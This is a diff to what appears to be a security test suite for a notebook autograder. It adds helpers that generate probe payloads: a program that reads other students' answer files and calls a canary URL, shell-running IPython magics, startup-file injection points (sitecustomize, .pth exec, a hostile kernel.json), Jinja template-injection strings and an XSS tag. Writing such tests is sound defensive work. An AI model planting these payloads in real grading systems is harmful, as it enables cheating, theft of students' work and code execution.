@@ -323,3 +323,50 @@ def hostile_notebook(released: Path, texts: Iterable[str], code: str = "") -> by
 def _grade(text: str) -> dict[str, Any]:
     base = {"schema_version": 3, "grade_id": text, "points": 99, "locked": False, "task": False}
     return {**base, "grade": True, "solution": True, "cell_type": text, "checksum": text, "kind": text}
+
+
+def harmful_code(trace: Path, canary: str = CANARY) -> str:
+    """Return a program that leaves a file, asks the canary, and looks for the answers of others and the gradebook."""
+    return f"""
+import os, pathlib, subprocess, urllib.request
+trace = pathlib.Path({str(trace)!r})
+trace.mkdir(exist_ok=True)
+for other in pathlib.Path("..").resolve().parent.rglob("antwoorden.json"):
+    (trace / "gelezen").write_bytes(other.read_bytes())
+(trace / f"python-{{os.getpid()}}").write_text(__name__)
+subprocess.run(["touch", str(trace / "programma")])
+urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open({canary + "/code"!r})
+"""
+
+
+def magic_cells(trace: Path) -> list[str]:
+    """Return cells that IPython runs in other ways than as Python."""
+    return [f"%%bash\nmkdir -p {trace}; touch {trace}/bash", f"!touch {trace}/uitroep", f"%%writefile {trace}/magie\nx"]
+
+
+def startup_files(code: str, notebook: bytes) -> dict[str, bytes]:
+    """Return files, by relative path, that some program runs when it finds them where it works."""
+    python = (
+        "sitecustomize.py", "usercustomize.py", "conftest.py", "setup.py", "h9.py", "__init__.py", "__main__.py",
+        "nbgrader_config.py", "jupyter_config.py", "jupyter_server_config.py", "jupyter_nbconvert_config.py",
+        "ipython_config.py", "ipython_kernel_config.py", "json.py", "nbformat.py", "numpy.py", "nbgrader/__init__.py",
+        "ib_course/__init__.py", "kwaad.py", "env.py", "migrations/env.py", "antwoorden.py",
+        ".ipython/profile_default/startup/00.py", "profile_default/startup/00.py", ".jupyter/jupyter_config.py",
+        ".local/lib/python3.11/site-packages/usercustomize.py",
+    )  # fmt: skip
+    argv = ["python3", "-c", code]
+    kernel = {"argv": argv, "display_name": "kwaad", "language": "python"}
+    return {
+        **dict.fromkeys(python, code.encode()),
+        ".ipynb_checkpoints/h9-checkpoint.ipynb": notebook,
+        "anders.ipynb": notebook,
+        "kernels/kwaad/kernel.json": json.dumps(kernel).encode(),
+        "kwaad.pth": f"import os; exec({code!r})".encode(),
+        "index.html.j2": b"{{ ().__class__.__base__.__subclasses__() }}",
+        "templates/feedback/index.html.j2": b"{{ cycler.__init__.__globals__ }}",
+        "alembic.ini": b"[alembic]\nscript_location = migrations\n",
+        "feedback.html": b"<script>__pwned('bestand')</script>",
+        "jupyter_config.json": json.dumps({"NbConvertApp": {"writer_class": "kwaad.Writer"}}).encode(),
+        ".env": b"PYTHONSTARTUP=h9.py\n",
+        "pyvenv.cfg": b"home = .\n",
+    }
